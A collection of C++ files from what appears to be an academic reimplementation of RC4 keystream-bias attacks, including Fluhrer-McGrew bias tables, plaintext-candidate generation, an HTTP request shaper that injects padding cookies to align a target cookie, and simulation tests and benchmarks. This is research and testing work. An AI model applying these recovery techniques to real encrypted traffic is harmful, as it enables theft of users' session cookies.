                                   top.prev_index + 1, top.stream});
        }
      }
    }
  }

  // Final transition: last unknown byte -> m_last. Merge into one list.
  const auto& final_table = transitions[inner];
  assert(final_table.size() == 65536);
  std::priority_queue<StreamHeapNode> heap;
  for (uint32_t vi = 0; vi < a.size(); ++vi) {
    if (!lists[inner - 1][vi].empty()) {
      const double trans = final_table[static_cast<size_t>(a[vi]) * 256 + m_last];
      heap.push(StreamHeapNode{lists[inner - 1][vi][0].score + trans, 0, vi});
    }
  }
  std::vector<Candidate> out;
  while (out.size() < n && !heap.empty()) {
    const StreamHeapNode top = heap.top();
    heap.pop();
    Candidate c;
    c.log_likelihood = top.score;
    c.plaintext.resize(inner);
    uint32_t value_index = top.stream;
    uint32_t list_index = top.prev_index;
    for (size_t t = inner; t-- > 0;) {
      c.plaintext[t] = a[value_index];
      const ListEntry& e = lists[t][value_index][list_index];
      value_index = e.prev_value_index;
      list_index = e.prev_list_index;
    }
    out.push_back(std::move(c));
    const auto& src = lists[inner - 1][top.stream];
    if (top.prev_index + 1 < src.size()) {
      const double trans =
          final_table[static_cast<size_t>(a[top.stream]) * 256 + m_last];
      heap.push(StreamHeapNode{src[top.prev_index + 1].score + trans,
                               top.prev_index + 1, top.stream});
    }
  }
  return out;
}

}  // namespace rc4b
