#include "src/tls/http.h"

#include <cassert>

namespace rc4b {

size_t AlignmentPadding(size_t unpadded_offset, size_t alignment) {
  return (alignment + 256 - (unpadded_offset % 256)) % 256;
}

ShapedRequest BuildAlignedRequest(const HttpRequestTemplate& tmpl,
                                  const Bytes& cookie_value) {
  assert(cookie_value.size() == tmpl.cookie_length);

  // Known (sniffable) headers preceding the Cookie header, following the
  // Listing 3 layout. Kept short so the worst-case alignment padding (255
  // bytes) still fits within the fixed request size.
  std::string head = tmpl.method_line + "\r\n";
  head += "Host: " + tmpl.host + "\r\n";
  head += "User-Agent: Mozilla/5.0 Gecko/20100101\r\n";
  head += "Accept-Encoding: gzip, deflate\r\n";
  head += "Connection: keep-alive\r\n";
  // The attacker aligns the cookie by sizing an injected cookie that the
  // browser sends *before* the target (it cannot reorder the target itself,
  // but padding anywhere before the value shifts it equivalently).
  head += "Cookie: ";
  const std::string target_prefix = tmpl.cookie_name + "=";
  size_t offset = head.size() + target_prefix.size();
  const size_t pad = AlignmentPadding(offset, tmpl.cookie_alignment);
  if (pad > 0) {
    // pad = injected name + '=' + value + "; " bytes in front of the target.
    std::string filler = "p=";
    const size_t fixed = filler.size() + 2;  // plus "; "
    assert(pad >= fixed || pad + 256 >= fixed);
    size_t value_len = (pad >= fixed ? pad : pad + 256) - fixed;
    filler += std::string(value_len, 'x');
    filler += "; ";
    head += filler;
  }
  head += target_prefix;

  ShapedRequest out;
  out.cookie_offset = head.size();
  assert(out.cookie_offset % 256 == tmpl.cookie_alignment % 256);

  Bytes plaintext(head.begin(), head.end());
  plaintext.insert(plaintext.end(), cookie_value.begin(), cookie_value.end());

  // Trailing injected cookie pads the request to the fixed total size; the
  // terminator "\r\n\r\n" ends the request.
  std::string tail = "; injected1=";
  const std::string terminator = "\r\n\r\n";
  assert(plaintext.size() + tail.size() + terminator.size() <= tmpl.total_size);
  tail += std::string(
      tmpl.total_size - plaintext.size() - tail.size() - terminator.size(), 'k');
  tail += terminator;
  plaintext.insert(plaintext.end(), tail.begin(), tail.end());
  assert(plaintext.size() == tmpl.total_size);
  out.plaintext = std::move(plaintext);
  return out;
}

}  // namespace rc4b
