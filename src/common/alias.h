// Walker/Vose alias method: O(1) sampling from a fixed discrete distribution
// after O(n) setup. Used to draw keystream bytes from empirical per-TSC
// models in the TKIP simulation harness.
#ifndef SRC_COMMON_ALIAS_H_
#define SRC_COMMON_ALIAS_H_

#include <cstdint>
#include <span>
#include <vector>

#include "src/common/rng.h"

namespace rc4b {

class AliasTable {
 public:
  AliasTable() = default;

  // `weights` need not be normalized; must be non-negative with positive sum.
  explicit AliasTable(std::span<const double> weights) { Build(weights); }

  void Build(std::span<const double> weights);

  // Draws an index with probability proportional to its weight.
  uint32_t Sample(Xoshiro256& rng) const {
    const uint64_t r = rng();
    const uint32_t slot = static_cast<uint32_t>(
        (static_cast<unsigned __int128>(r) * probability_.size()) >> 64);
    // Use independent low bits for the coin flip.
    const double coin = static_cast<double>(rng() >> 11) * 0x1.0p-53;
    return coin < probability_[slot] ? slot : alias_[slot];
  }

  size_t size() const { return probability_.size(); }

 private:
  std::vector<double> probability_;  // acceptance probability per slot
  std::vector<uint32_t> alias_;      // fallback index per slot
};

}  // namespace rc4b

#endif  // SRC_COMMON_ALIAS_H_
