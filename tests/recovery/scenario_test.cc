#include "src/recovery/scenario.h"

#include <gtest/gtest.h>

#include <cmath>

#include "src/tls/cookie_attack.h"

namespace rc4b::recovery {
namespace {

// Tiny parameterizations so the 1/2/4-worker sweeps stay fast; the outcome
// contract (bit-exact for any worker count) is scale-independent.
ScenarioParams TinyParams() {
  ScenarioParams params;
  params.trials = 3;
  params.seed = 19;
  params.samples = 1 << 11;
  params.budget = 1 << 16;
  params.model_keys = 1 << 8;
  return params;
}

void ExpectBitExactAcrossWorkerCounts(const Scenario& scenario,
                                      ScenarioParams params) {
  params.workers = 1;
  const auto one = scenario.Run(params);
  EXPECT_EQ(one.trials, params.trials);
  EXPECT_EQ(one.ranks.size(), params.trials);
  for (double rank : one.ranks) {
    EXPECT_TRUE(std::isfinite(rank));
  }
  for (unsigned workers : {2u, 4u}) {
    params.workers = workers;
    const auto many = scenario.Run(params);
    EXPECT_TRUE(one == many) << scenario.name() << " workers=" << workers;
  }
}

TEST(ScenarioRegistryTest, BuiltinNamesResolve) {
  const auto& registry = ScenarioRegistry::Builtin();
  for (const char* name :
       {"tkip-trailer", "tkip-trailer-long16", "cookie-base64-16",
        "cookie-hex-8-gap32", "singlebyte-beyond256"}) {
    const Scenario* scenario = registry.Find(name);
    ASSERT_NE(scenario, nullptr) << name;
    EXPECT_EQ(scenario->name(), name);
    EXPECT_FALSE(scenario->description().empty());
  }
  EXPECT_EQ(registry.Find("no-such-scenario"), nullptr);
  EXPECT_EQ(registry.List().size(), 5u);
}

TEST(ScenarioRegistryTest, CustomScenariosRegisterNextToBuiltins) {
  ScenarioRegistry registry;
  CookieScenarioConfig config;
  config.cookie_length = 2;
  config.alphabet = CookieAlphabetHex();
  config.max_gap = 8;
  registry.Register(
      MakeCookieScenario("my-workload", "two hex bytes", config));
  const Scenario* scenario = registry.Find("my-workload");
  ASSERT_NE(scenario, nullptr);

  ScenarioParams params;
  params.trials = 2;
  params.seed = 3;
  params.samples = uint64_t{1} << 32;
  params.budget = 64;
  const auto outcome = scenario->Run(params);
  EXPECT_EQ(outcome.trials, 2u);
  // Two hex characters at 2^32 ciphertexts: the combined FM + ABSAB signal
  // pins both bytes in every trial.
  EXPECT_EQ(outcome.budget_wins, 2u);
}

// The satellite contract extension: 1/2/4-worker bit-exactness of one
// registry scenario from each family, mirroring tests/sim/.

TEST(ScenarioDeterminismTest, TkipFamilyBitExactAcrossWorkerCounts) {
  const auto& registry = ScenarioRegistry::Builtin();
  ExpectBitExactAcrossWorkerCounts(*registry.Find("tkip-trailer"),
                                   TinyParams());
}

TEST(ScenarioDeterminismTest, CookieFamilyBitExactAcrossWorkerCounts) {
  const auto& registry = ScenarioRegistry::Builtin();
  ScenarioParams params = TinyParams();
  params.samples = uint64_t{1} << 28;
  ExpectBitExactAcrossWorkerCounts(*registry.Find("cookie-hex-8-gap32"),
                                   params);
}

TEST(ScenarioDeterminismTest, SingleByteFamilyBitExactAcrossWorkerCounts) {
  const auto& registry = ScenarioRegistry::Builtin();
  ScenarioParams params = TinyParams();
  params.model_keys = 1 << 12;
  ExpectBitExactAcrossWorkerCounts(*registry.Find("singlebyte-beyond256"),
                                   params);
}

TEST(ScenarioDeterminismTest, PayloadVariantShiftsTheTrailerPositions) {
  // The long-payload variant must still run end-to-end (its model and stats
  // cover deeper keystream positions) and be deterministic at a fixed seed.
  const auto& registry = ScenarioRegistry::Builtin();
  const Scenario* scenario = registry.Find("tkip-trailer-long16");
  ASSERT_NE(scenario, nullptr);
  ScenarioParams params = TinyParams();
  params.trials = 2;
  const auto first = scenario->Run(params);
  const auto second = scenario->Run(params);
  EXPECT_TRUE(first == second);
  EXPECT_EQ(first.trials, 2u);
}

}  // namespace
}  // namespace rc4b::recovery
