// Ablation — the cookie character-set restriction of Sect. 6.2: restricting
// Algorithm 2 / the rank computation to the legal cookie alphabet tightens
// the required ciphertext count. Compares the 64-character alphabet against
// the unrestricted 256-value space at several ciphertext counts.
#include <cstdio>
#include <mutex>
#include <numeric>
#include <vector>

#include "bench/harness.h"
#include "src/biases/fluhrer_mcgrew.h"
#include "src/biases/mantin.h"
#include "src/common/flags.h"
#include "src/common/rng.h"
#include "src/common/thread_pool.h"
#include "src/core/likelihood.h"
#include "src/core/rank.h"
#include "src/core/synthetic.h"
#include "src/tls/cookie_attack.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "sims",
                            .count_default = "24",
                            .count_help = "simulations per point",
                            .seed_default = "22"};
  FlagSet flags("Ablation: cookie alphabet restriction (Sect. 6.2)");
  DefineScaleFlags(flags, scale)
      .Define("attempts-log2", "23", "log2 of the brute-force budget")
      .Define("alignment", "48", "cookie keystream alignment");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const ScaleFlagValues scale_values = GetScaleFlags(flags, scale);
  const int sims = static_cast<int>(scale_values.count);
  const double budget = std::exp2(static_cast<double>(flags.GetInt("attempts-log2")));
  const size_t alignment = flags.GetUint("alignment");
  const size_t cookie_len = 16;
  const uint8_t m1 = '=', m_last = ';';

  bench::PrintHeader(
      "bench_ablation_charset",
      "Sect. 6.2 ablation (not a paper figure): success with the 64-char "
      "cookie alphabet vs the unrestricted 256-value space",
      "same likelihoods, same 2^23-attempt budget; the restriction prunes "
      "illegal candidates and lifts the curve");

  const auto alphabet64 = CookieAlphabet64();
  std::vector<uint8_t> alphabet256(256);
  std::iota(alphabet256.begin(), alphabet256.end(), 0);

  std::printf("%-16s %16s %16s\n", "copies (x2^27)", "64-char", "256-value");
  for (uint64_t copies : {3ull, 5ull, 7ull, 9ull, 11ull}) {
    const uint64_t trials = copies << 27;
    int wins64 = 0, wins256 = 0;
    std::mutex mutex;
    ParallelChunks(sims, scale_values.workers,
                   [&](unsigned, uint64_t begin, uint64_t end) {
      for (uint64_t s = begin; s < end; ++s) {
        Xoshiro256 rng(scale_values.seed * 7717 + copies * 131 + s);
        Bytes truth(cookie_len);
        for (auto& b : truth) {
          b = alphabet64[rng.Below(alphabet64.size())];
        }
        DoubleByteTables transitions(cookie_len + 1);
        for (size_t t = 0; t <= cookie_len; ++t) {
          const uint8_t p1 = t == 0 ? m1 : truth[t - 1];
          const uint8_t p2 = t == cookie_len ? m_last : truth[t];
          const uint8_t counter = PrgaCounterAtPosition(alignment + t);
          const auto counts = SampleCiphertextPairCounts(
              FmDigraphTable(counter, 1 << 20), p1, p2, trials, rng);
          transitions[t] = DoubleByteLogLikelihoodSparse(
              counts, trials, FmSparseModel(counter, 1 << 20));
          std::vector<double> alphas;
          for (uint64_t g = (t <= 15 ? 15 - t : 0); g <= 128; ++g) {
            alphas.push_back(AbsabAlpha(g));
          }
          for (uint64_t g = t + 1; g <= 128; ++g) {
            alphas.push_back(AbsabAlpha(g));
          }
          const auto absab = SampleAbsabScoreTable(
              alphas, trials, static_cast<uint16_t>(p1 << 8 | p2), rng);
          CombineInPlace(transitions[t], absab);
        }
        const double rank64 =
            MarkovRank(transitions, m1, m_last, truth, alphabet64).estimate();
        const double rank256 =
            MarkovRank(transitions, m1, m_last, truth, alphabet256).estimate();
        std::lock_guard<std::mutex> lock(mutex);
        wins64 += rank64 < budget ? 1 : 0;
        wins256 += rank256 < budget ? 1 : 0;
      }
    });
    std::printf("%-16llu %15.1f%% %15.1f%%\n",
                static_cast<unsigned long long>(copies), 100.0 * wins64 / sims,
                100.0 * wins256 / sims);
  }
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
