#include "src/biases/fluhrer_mcgrew.h"

#include <cmath>

namespace rc4b {

namespace {

constexpr double kQ7 = 0x1.0p-7;   // relative bias 2^-7
constexpr double kQ8 = 0x1.0p-8;   // relative bias 2^-8

}  // namespace

std::vector<FmDigraph> FmDigraphsAt(uint8_t i, uint64_t r) {
  std::vector<FmDigraph> out;
  const auto add = [&out](uint8_t v1, uint8_t v2, double q, const char* name) {
    out.push_back(FmDigraph{v1, v2, q, name});
  };
  const uint8_t ip1 = static_cast<uint8_t>(i + 1);
  const uint8_t ip2 = static_cast<uint8_t>(i + 2);

  // Table 1 of the paper, including the generalized position conditions on r
  // that govern the initial-keystream exceptions.
  if (i == 1) {
    add(0, 0, kQ7, "(0,0) i=1");
  } else if (i != 255) {
    add(0, 0, kQ8, "(0,0)");
  }
  if (i != 0 && i != 1) {
    add(0, 1, kQ8, "(0,1)");
  }
  if (i != 0 && i != 255) {
    add(0, ip1, -kQ8, "(0,i+1)");
  }
  if (i != 254 && r != 1) {
    add(ip1, 255, kQ8, "(i+1,255)");
  }
  if (i == 2 && r != 2) {
    add(129, 129, kQ8, "(129,129)");
  }
  if (i != 1 && i != 254) {
    add(255, ip1, kQ8, "(255,i+1)");
  }
  if (i >= 1 && i <= 252 && r != 2) {
    add(255, ip2, kQ8, "(255,i+2)");
  }
  if (i == 254) {
    add(255, 0, kQ8, "(255,0)");
  }
  if (i == 255) {
    add(255, 1, kQ8, "(255,1)");
  }
  if (i == 0 || i == 1) {
    add(255, 2, kQ8, "(255,2)");
  }
  if (i != 254 && r != 5) {
    add(255, 255, -kQ8, "(255,255)");
  }
  return out;
}

std::vector<double> FmDigraphTable(uint8_t i, uint64_t r) {
  std::vector<double> table(65536, 0x1.0p-16);
  for (const FmDigraph& d : FmDigraphsAt(i, r)) {
    // Several Table 1 rows can land on the same cell for particular i (e.g.
    // (0,i+1) and (0,1) at i=0); combine them multiplicatively.
    table[static_cast<size_t>(d.v1) * 256 + d.v2] *= 1.0 + d.relative_bias;
  }
  double sum = 0.0;
  for (double p : table) {
    sum += p;
  }
  for (double& p : table) {
    p /= sum;
  }
  return table;
}

SparseDigraphModel FmSparseModel(uint8_t i, uint64_t r) {
  const auto table = FmDigraphTable(i, r);
  SparseDigraphModel model;
  // After normalization the unbiased cells share one common value; pick it
  // from a cell no Table 1 row ever touches: (1, 0) is never biased (v1=1
  // rows require i=0 via (i+1,255)... which has v2=255, and (129,129),
  // (255,*), (0,*) have different v1), except i=0's (i+1,255)=(1,255).
  model.unbiased_probability = table[static_cast<size_t>(1) * 256 + 0];
  for (size_t cell = 0; cell < table.size(); ++cell) {
    if (std::fabs(table[cell] / model.unbiased_probability - 1.0) > 1e-9) {
      model.biased_cells.emplace_back(static_cast<uint16_t>(cell), table[cell]);
    }
  }
  return model;
}

}  // namespace rc4b
