// Deterministic RC4 key generation for dataset workers.
//
// Matches the paper's setup (Sect. 3.2): an AES key derives a stream of
// random 128-bit RC4 keys using AES in counter mode, seeded deterministically
// (instead of from /dev/urandom) so datasets are reproducible. The engine
// gives every shard the same seed and Seek()s to the shard's global key
// range, making datasets invariant under the worker count.
#ifndef SRC_RC4_KEYGEN_H_
#define SRC_RC4_KEYGEN_H_

#include <array>
#include <cstdint>

#include "src/crypto/aes128.h"

namespace rc4b {

class Rc4KeyGenerator {
 public:
  static constexpr size_t kRc4KeySize = 16;

  explicit Rc4KeyGenerator(uint64_t worker_seed);

  // Returns the next 128-bit RC4 key from the AES-CTR stream.
  std::array<uint8_t, kRc4KeySize> NextKey();

  // Jumps ahead so that the next key is key number `key_index` of this
  // worker's stream (each key consumes exactly one AES block).
  void Seek(uint64_t key_index);

 private:
  Aes128Ctr ctr_;
};

}  // namespace rc4b

#endif  // SRC_RC4_KEYGEN_H_
