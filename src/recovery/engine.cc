#include "src/recovery/engine.h"

namespace rc4b::recovery {

RecoveryResult RecoveryEngine::Accept(const Candidate& candidate,
                                      uint64_t tried) const {
  RecoveryResult result;
  result.found = true;
  result.candidates_tried = tried;
  result.plaintext = candidate.plaintext;
  result.log_likelihood = candidate.log_likelihood;
  result.correct =
      !options_.truth.empty() && options_.truth == candidate.plaintext;
  return result;
}

RecoveryResult RecoveryEngine::RecoverSingle(
    const SingleByteTables& tables, const VerifyPredicate& verify) const {
  RecoveryResult result;
  if (tables.empty()) {
    return result;
  }
  LazyCandidateEnumerator enumerator(tables);
  for (uint64_t n = 0;
       n < options_.max_candidates && !enumerator.Exhausted(); ++n) {
    const Candidate candidate = enumerator.Next();
    result.candidates_tried = n + 1;
    if (verify(candidate.plaintext)) {
      return Accept(candidate, n + 1);
    }
  }
  return result;
}

RecoveryResult RecoveryEngine::RecoverSingle(
    SingleByteLikelihoodSource& source, const VerifyPredicate& verify) const {
  return RecoverSingle(source.Tables(), verify);
}

RecoveryResult RecoveryEngine::RecoverDouble(
    const DoubleByteTables& transitions, const PairBoundary& boundary,
    std::span<const uint8_t> alphabet, const VerifyPredicate& verify) const {
  RecoveryResult result;
  if (transitions.size() < 2) {
    return result;  // Algorithm 2 needs at least one unknown byte
  }
  const auto candidates =
      GenerateCandidatesDouble(transitions, boundary.m1, boundary.m_last,
                               options_.max_candidates, alphabet);
  for (const Candidate& candidate : candidates) {
    ++result.candidates_tried;
    if (verify(candidate.plaintext)) {
      return Accept(candidate, result.candidates_tried);
    }
  }
  return result;
}

RecoveryResult RecoveryEngine::RecoverDouble(
    DoubleByteLikelihoodSource& source, const PairBoundary& boundary,
    std::span<const uint8_t> alphabet, const VerifyPredicate& verify) const {
  return RecoverDouble(source.Tables(), boundary, alphabet, verify);
}

}  // namespace rc4b::recovery
