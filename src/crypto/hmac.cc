#include "src/crypto/hmac.h"

#include <cstring>

namespace rc4b {

HmacSha1::HmacSha1(std::span<const uint8_t> key) {
  std::array<uint8_t, Sha1::kBlockSize> block_key{};
  if (key.size() > Sha1::kBlockSize) {
    const auto digest = Sha1::Digest(key);
    std::memcpy(block_key.data(), digest.data(), digest.size());
  } else {
    std::memcpy(block_key.data(), key.data(), key.size());
  }
  for (size_t i = 0; i < Sha1::kBlockSize; ++i) {
    ipad_key_[i] = static_cast<uint8_t>(block_key[i] ^ 0x36);
    opad_key_[i] = static_cast<uint8_t>(block_key[i] ^ 0x5c);
  }
  inner_.Update(ipad_key_);
}

void HmacSha1::Update(std::span<const uint8_t> data) { inner_.Update(data); }

std::array<uint8_t, HmacSha1::kDigestSize> HmacSha1::Finish() {
  const auto inner_digest = inner_.Finish();
  Sha1 outer;
  outer.Update(opad_key_);
  outer.Update(inner_digest);
  inner_.Update(ipad_key_);  // reset for reuse with the same key
  return outer.Finish();
}

std::array<uint8_t, HmacSha1::kDigestSize> HmacSha1::Digest(
    std::span<const uint8_t> key, std::span<const uint8_t> data) {
  HmacSha1 mac(key);
  mac.Update(data);
  return mac.Finish();
}

}  // namespace rc4b
