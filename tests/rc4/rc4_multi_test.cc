#include "src/rc4/rc4_multi.h"

#include <gtest/gtest.h>

#include <vector>

#include "src/common/bytes.h"
#include "src/common/rng.h"
#include "src/rc4/rc4.h"

namespace rc4b {
namespace {

// The kernel's whole contract: stream m of Rc4MultiStream<M> is bit-identical
// to a scalar Rc4 over the same key, for every supported width, any length,
// and any drop. The engine's batch/grid bit-exactness rests on this.

Bytes RandomKeys(size_t count, size_t key_size, uint64_t seed) {
  Xoshiro256 rng(seed);
  Bytes keys(count * key_size);
  rng.Fill(keys);
  return keys;
}

Bytes ScalarReference(std::span<const uint8_t> key, uint64_t drop, size_t length) {
  Rc4 rc4(key);
  rc4.Skip(drop);
  Bytes out(length);
  rc4.Keystream(out);
  return out;
}

template <size_t M>
void ExpectMatchesScalar(size_t key_size, uint64_t drop, size_t length,
                         uint64_t seed) {
  const Bytes keys = RandomKeys(M, key_size, seed);
  Rc4MultiStream<M> streams(keys, key_size);
  if (drop != 0) {
    streams.Skip(drop);
  }
  Bytes batch(M * length);
  streams.Keystream(batch.data(), length, length);
  for (size_t m = 0; m < M; ++m) {
    const auto key = std::span<const uint8_t>(keys).subspan(m * key_size, key_size);
    const Bytes expected = ScalarReference(key, drop, length);
    const Bytes actual(batch.begin() + m * length, batch.begin() + (m + 1) * length);
    ASSERT_EQ(actual, expected) << "M=" << M << " stream=" << m
                                << " drop=" << drop << " length=" << length;
  }
}

template <size_t M>
void SweepLengthsAndDrops(uint64_t seed) {
  // Lengths cover the paper's workloads: 1-byte grids, first16, consec512
  // rows (256/513) crossing the i-counter wrap; drops cover RC4-drop[n] and
  // the long-term engine's 256-aligned discard.
  for (const size_t length : {size_t{1}, size_t{16}, size_t{256}, size_t{513}}) {
    ExpectMatchesScalar<M>(16, 0, length, seed ^ length);
  }
  for (const uint64_t drop : {uint64_t{1}, uint64_t{256}, uint64_t{1024}}) {
    ExpectMatchesScalar<M>(16, drop, 64, seed ^ (drop << 16));
  }
}

TEST(Rc4MultiStreamTest, MatchesScalarForEverySupportedWidth) {
  SweepLengthsAndDrops<2>(1);
  SweepLengthsAndDrops<4>(2);
  SweepLengthsAndDrops<8>(3);
  SweepLengthsAndDrops<16>(4);
  SweepLengthsAndDrops<32>(5);
  SweepLengthsAndDrops<64>(6);
}

TEST(Rc4MultiStreamTest, ShortKeysMatchScalar) {
  // The KSA cycles the key; non-16-byte uniform key sizes must still match.
  ExpectMatchesScalar<8>(5, 0, 256, 7);
  ExpectMatchesScalar<8>(3, 17, 40, 8);
}

TEST(Rc4MultiStreamTest, SplitGenerationCarriesState) {
  // Keystream() in several calls must equal one shot: the engine generates
  // long-term streams window by window from one kernel instance.
  constexpr size_t kStreams = 16;
  const Bytes keys = RandomKeys(kStreams, 16, 11);
  Rc4MultiStream<kStreams> one_shot(keys, 16);
  Bytes full(kStreams * 513);
  one_shot.Keystream(full.data(), 513, 513);

  Rc4MultiStream<kStreams> split(keys, 16);
  Bytes pieces(kStreams * 513);
  size_t offset = 0;
  for (const size_t piece : {size_t{1}, size_t{255}, size_t{257}}) {
    // Stride stays the full row so rows stay parallel across calls.
    split.Keystream(pieces.data() + offset, piece, 513);
    offset += piece;
  }
  EXPECT_EQ(pieces, full);
}

TEST(Rc4MultiStreamTest, StridedStoresStayInsideRows) {
  // stride > length: bytes past `length` in each row must be untouched —
  // this is where a strided-store off-by-one would corrupt neighbor rows.
  constexpr size_t kStreams = 8;
  constexpr size_t kLength = 33;
  constexpr size_t kStride = 48;
  const Bytes keys = RandomKeys(kStreams, 16, 13);
  Bytes batch(kStreams * kStride, 0xAA);
  Rc4MultiStream<kStreams> streams(keys, 16);
  streams.Keystream(batch.data(), kLength, kStride);
  for (size_t m = 0; m < kStreams; ++m) {
    const auto key = std::span<const uint8_t>(keys).subspan(m * 16, 16);
    const Bytes expected = ScalarReference(key, 0, kLength);
    for (size_t t = 0; t < kLength; ++t) {
      ASSERT_EQ(batch[m * kStride + t], expected[t]) << "m=" << m << " t=" << t;
    }
    for (size_t t = kLength; t < kStride; ++t) {
      ASSERT_EQ(batch[m * kStride + t], 0xAA) << "m=" << m << " t=" << t;
    }
  }
}

TEST(Rc4MultiStreamTest, ResolveInterleaveRoundsDownToSupportedWidths) {
  EXPECT_EQ(ResolveInterleave(0), kDefaultInterleave);
  EXPECT_EQ(ResolveInterleave(1), 1u);
  EXPECT_EQ(ResolveInterleave(2), 2u);
  EXPECT_EQ(ResolveInterleave(3), 2u);
  EXPECT_EQ(ResolveInterleave(12), 8u);
  EXPECT_EQ(ResolveInterleave(16), 16u);
  EXPECT_EQ(ResolveInterleave(31), 16u);
  EXPECT_EQ(ResolveInterleave(32), 32u);
  EXPECT_EQ(ResolveInterleave(63), 32u);
  EXPECT_EQ(ResolveInterleave(64), 64u);
  EXPECT_EQ(ResolveInterleave(1000), 64u);
}

}  // namespace
}  // namespace rc4b
