#include "src/crypto/sha1.h"

#include <cstring>

namespace rc4b {

void Sha1::Reset() {
  h_[0] = 0x67452301;
  h_[1] = 0xefcdab89;
  h_[2] = 0x98badcfe;
  h_[3] = 0x10325476;
  h_[4] = 0xc3d2e1f0;
  total_bytes_ = 0;
  buffered_ = 0;
}

void Sha1::ProcessBlock(const uint8_t block[kBlockSize]) {
  uint32_t w[80];
  for (int t = 0; t < 16; ++t) {
    w[t] = LoadBe32(block + 4 * t);
  }
  for (int t = 16; t < 80; ++t) {
    w[t] = Rotl32(w[t - 3] ^ w[t - 8] ^ w[t - 14] ^ w[t - 16], 1);
  }
  uint32_t a = h_[0], b = h_[1], c = h_[2], d = h_[3], e = h_[4];
  for (int t = 0; t < 80; ++t) {
    uint32_t f;
    uint32_t k;
    if (t < 20) {
      f = (b & c) | (~b & d);
      k = 0x5a827999;
    } else if (t < 40) {
      f = b ^ c ^ d;
      k = 0x6ed9eba1;
    } else if (t < 60) {
      f = (b & c) | (b & d) | (c & d);
      k = 0x8f1bbcdc;
    } else {
      f = b ^ c ^ d;
      k = 0xca62c1d6;
    }
    const uint32_t temp = Rotl32(a, 5) + f + e + k + w[t];
    e = d;
    d = c;
    c = Rotl32(b, 30);
    b = a;
    a = temp;
  }
  h_[0] += a;
  h_[1] += b;
  h_[2] += c;
  h_[3] += d;
  h_[4] += e;
}

void Sha1::Update(std::span<const uint8_t> data) {
  total_bytes_ += data.size();
  size_t i = 0;
  if (buffered_ > 0) {
    const size_t take = std::min(kBlockSize - buffered_, data.size());
    std::memcpy(buffer_ + buffered_, data.data(), take);
    buffered_ += take;
    i = take;
    if (buffered_ == kBlockSize) {
      ProcessBlock(buffer_);
      buffered_ = 0;
    }
  }
  while (i + kBlockSize <= data.size()) {
    ProcessBlock(data.data() + i);
    i += kBlockSize;
  }
  if (i < data.size()) {
    std::memcpy(buffer_, data.data() + i, data.size() - i);
    buffered_ = data.size() - i;
  }
}

std::array<uint8_t, Sha1::kDigestSize> Sha1::Finish() {
  const uint64_t bit_length = total_bytes_ * 8;
  const uint8_t pad_byte = 0x80;
  Update(std::span<const uint8_t>(&pad_byte, 1));
  static constexpr uint8_t kZeros[kBlockSize] = {};
  while (buffered_ != kBlockSize - 8) {
    const size_t gap = buffered_ < kBlockSize - 8 ? (kBlockSize - 8) - buffered_
                                                  : kBlockSize - buffered_;
    Update(std::span<const uint8_t>(kZeros, gap));
  }
  uint8_t length_be[8];
  StoreBe64(bit_length, length_be);
  Update(length_be);
  std::array<uint8_t, kDigestSize> out;
  for (int i = 0; i < 5; ++i) {
    StoreBe32(h_[i], out.data() + 4 * i);
  }
  Reset();
  return out;
}

std::array<uint8_t, Sha1::kDigestSize> Sha1::Digest(std::span<const uint8_t> data) {
  Sha1 h;
  h.Update(data);
  return h.Finish();
}

}  // namespace rc4b
