#include <cmath>
// End-to-end validation of the Sect. 3 detection pipeline at paper-scale
// sample counts, using the synthetic sampler: keystream pair counts drawn
// from the analytic Fluhrer-McGrew distribution must drive the full
// M-test -> proportion-test -> Holm pipeline to exactly the right cells with
// the right signs.
#include <map>

#include <gtest/gtest.h>

#include "src/biases/bias_scan.h"
#include "src/biases/fluhrer_mcgrew.h"
#include "src/common/rng.h"
#include "src/core/synthetic.h"
#include "src/stats/counters.h"

namespace rc4b {
namespace {

// Builds a one-row DigraphGrid from counts sampled out of the analytic FM
// digraph distribution at counter i.
DigraphGrid GridFromFmModel(uint8_t i, uint64_t trials, uint64_t seed) {
  Xoshiro256 rng(seed);
  const auto table = FmDigraphTable(i, 1 << 20);
  const auto counts = SampleCounts(table, trials, rng);
  DigraphGrid grid(1);
  uint64_t total = 0;
  for (size_t cell = 0; cell < counts.size(); ++cell) {
    grid.Add(0, static_cast<uint8_t>(cell >> 8), static_cast<uint8_t>(cell & 0xff),
             counts[cell]);
    total += counts[cell];
  }
  grid.AddKeys(total);
  return grid;
}

TEST(PipelineSyntheticTest, DetectsDependenceAtPaperScale) {
  const auto grid = GridFromFmModel(5, uint64_t{1} << 40, 1);
  const auto dependence = ScanPairDependence(grid);
  EXPECT_TRUE(dependence[0].dependent);
  EXPECT_LT(dependence[0].p_adjusted, 1e-10);
}

TEST(PipelineSyntheticTest, FindsExactlyTheFmCellsWithCorrectSigns) {
  const uint8_t i = 5;
  const auto grid = GridFromFmModel(i, uint64_t{1} << 40, 2);
  const auto cells = FindBiasedCells(grid, 0);
  ASSERT_FALSE(cells.empty());

  std::map<std::pair<int, int>, double> expected;
  for (const FmDigraph& d : FmDigraphsAt(i, 1 << 20)) {
    expected[{d.v1, d.v2}] = d.relative_bias;
  }
  // Every certified cell must be a genuine FM cell (Holm controls the FWER,
  // so no false positives are tolerated here)...
  for (const auto& cell : cells) {
    const auto it = expected.find({cell.v1, cell.v2});
    ASSERT_NE(it, expected.end())
        << "false positive at (" << int{cell.v1} << "," << int{cell.v2} << ")";
    // ...with the right sign and roughly the right magnitude.
    EXPECT_GT(cell.relative_bias * it->second, 0.0);
    EXPECT_NEAR(cell.relative_bias, it->second, 0.35 * std::fabs(it->second));
  }
  // And at 2^40 samples (~16 sigma per cell) all FM cells must be found.
  EXPECT_EQ(cells.size(), expected.size());
}

TEST(PipelineSyntheticTest, UniformModelYieldsNoDetections) {
  // Same pipeline on truly uniform pair counts: nothing may be flagged.
  Xoshiro256 rng(3);
  const std::vector<double> uniform(65536, 0x1.0p-16);
  const auto counts = SampleCounts(uniform, uint64_t{1} << 36, rng);
  DigraphGrid grid(1);
  uint64_t total = 0;
  for (size_t cell = 0; cell < counts.size(); ++cell) {
    grid.Add(0, static_cast<uint8_t>(cell >> 8), static_cast<uint8_t>(cell & 0xff),
             counts[cell]);
    total += counts[cell];
  }
  grid.AddKeys(total);
  const auto dependence = ScanPairDependence(grid);
  EXPECT_FALSE(dependence[0].dependent);
